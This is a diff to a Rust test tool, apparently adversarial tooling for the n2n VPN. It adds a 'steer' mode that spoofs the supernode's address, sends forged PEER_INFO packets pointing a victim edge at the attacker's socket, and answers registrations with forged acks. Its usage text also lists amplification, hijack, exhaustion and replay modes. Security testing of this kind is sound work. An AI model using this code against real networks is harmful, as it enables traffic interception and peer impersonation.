@@ -4,6 +4,7 @@
 //!
 //!   n2n-hostile amplify  sn=IP:PORT community=C macs=N sockets=P repeat=R ready=FILE listen_ms=MS
 //!   n2n-hostile hijack   edge=IP:PORT sn_like=no community=C victim=MAC peer=MAC count=N
+//!   n2n-hostile steer    edge=IP:PORT spoof=IP:PORT me=IP community=C victim=MAC peer=MAC secs=N
 //!   n2n-hostile exhaust  sn=IP:PORT communities=N macs=N
 //!   n2n-hostile genuine  edge=IP:PORT community=C key=K victim=MAC out=FILE
 //!   n2n-hostile replay   edge=IP:PORT community=C key=K victim=MAC in=FILE count=N
@@ -186,6 +187,64 @@ fn hijack(a: &Args) {
         std::thread::sleep(Duration::from_millis(2));
     }
     println!("sent={sent}");
+}
+
+/// The supernode's address forged (`spoof`, which the test gave this host): PEER_INFOs that
+/// say `peer` is at our own socket, and REGISTER_ACKs as `peer` for every REGISTER that comes
+/// to it, for `secs` seconds.
+fn steer(a: &Args) {
+    let (edge, c, victim, peer) = (
+        a.addr("edge"),
+        a.community(),
+        a.mac("victim"),
+        a.mac("peer"),
+    );
+    let forged = UdpSocket::bind(a.addr("spoof")).expect("bind the forged address");
+    let trap = socket();
+    trap.set_read_timeout(Some(Duration::from_millis(20)))
+        .expect("timeout");
+    let me: std::net::IpAddr = a.get("me").parse().expect("me: an IP address");
+    let at = SocketAddr::from((me, trap.local_addr().expect("addr").port()));
+    let info = Datagram::new(
+        c,
+        Flags::FROM_SUPERNODE,
+        Message::PeerInfo(PeerInfo {
+            aflags: 0,
+            src_mac: victim,
+            mac: peer,
+            sock: Sock::from(at),
+            preferred_sock: None,
+            load: 0,
+            uptime: 0,
+            version: VersionString::from_text("hostile"),
+        }),
+    )
+    .to_vec();
+    let (mut infos, mut registers, mut acks) = (0u64, 0u64, 0u64);
+    let end = Instant::now() + Duration::from_secs(a.num("secs").into());
+    let mut b = [0u8; 2048];
+    while Instant::now() < end {
+        forged.send_to(&info, edge).expect("send");
+        infos += 1;
+        while let Ok((n, from)) = trap.recv_from(&mut b) {
+            let Ok((d, _)) = Datagram::decode(&b[..n]) else {
+                continue;
+            };
+            if let Message::Register(r) = d.msg {
+                registers += 1;
+                let ack = Message::RegisterAck(RegisterAck {
+                    cookie: r.cookie,
+                    dst_mac: r.src_mac,
+                    src_mac: peer,
+                    sock: None,
+                });
+                trap.send_to(&Datagram::new(c, Flags::EMPTY, ack).to_vec(), from)
+                    .expect("send");
+                acks += 1;
+            }
+        }
+    }
+    println!("infos={infos} registers={registers} acks={acks} at={at}");
 }
 
 /// Registrations of `macs` made-up MACs spread over `communities` made-up communities.
@@ -396,6 +455,7 @@ fn main() {
     match mode.as_str() {
         "amplify" => amplify(&args),
         "hijack" => hijack(&args),
+        "steer" => steer(&args),
         "exhaust" => exhaust(&args),
         "genuine" => genuine(&args),
         "replay" => replay(&args),
